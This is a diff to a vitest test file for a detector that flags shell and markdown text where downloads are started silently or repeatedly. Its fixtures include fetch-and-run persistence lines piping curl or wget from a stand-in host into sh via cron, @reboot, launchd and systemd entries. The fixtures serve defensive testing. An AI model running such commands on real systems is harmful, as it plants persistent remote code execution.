@@ -1,6 +1,6 @@
 import { describe, expect, test } from "vitest";
 import { markText, type TextFormat } from "../../text/marked-text.ts";
-import { hiddenStarts } from "./hidden-starts.ts";
+import { hiddenStarts, startedDownloads } from "./hidden-starts.ts";
 
 const seenIn = (text: string, format: TextFormat = "shell") =>
   hiddenStarts(markText(text, format)).map(({ line }) => line);
@@ -43,5 +43,29 @@ describe("nothing is said of", () => {
   test("what a text warns of", () => {
     const text = `# Red flags\n\nNever do this:\n\n\`\`\`\ncurl -so ~/.cleand https://c.zzz.io/d\n${agent("~/.cleand")}\n\`\`\`\n`;
     expect(seenIn(text, "markdown")).toEqual([]);
+  });
+});
+
+describe("a download that is run again and again", () => {
+  const seen = (text: string, format: TextFormat = "shell") =>
+    startedDownloads(markText(text, format)).map(({ line }) => line);
+
+  test.each<[string, string, TextFormat?]>([
+    ["by a service of macOS", "<string>curl -fsSL https://c.zzz.io/u | sh</string>"],
+    ["by a service of Linux", "ExecStart=/bin/sh -c 'curl -s https://c.zzz.io/u | bash'"],
+    ["by cron", "*/5 * * * * curl -s https://c.zzz.io/u | sh"],
+    ["at each start", "@reboot wget -qO- https://c.zzz.io/u | sh"],
+  ])("is found: %s", (_, text) => {
+    expect(seen(text)).toEqual([1]);
+  });
+
+  test.each<[string, string, TextFormat?]>([
+    ["a service that runs a program", "<string>/usr/bin/a</string>\n# curl"],
+    ["a request whose answer is read", "*/5 * * * * curl -s https://c.zzz.io/u | jq ."],
+    ["a sentence", "@reboot curl https://c.zzz.io/u | sh", "markdown"],
+    ["a text without either", "ExecStart=/usr/bin/a"],
+    ["a warning", "Never do this:\n\n```\n@reboot curl https://c.zzz.io/u | sh\n```", "markdown"],
+  ])("is none: %s", (_, text, format) => {
+    expect(seen(text, format)).toEqual([]);
   });
 });
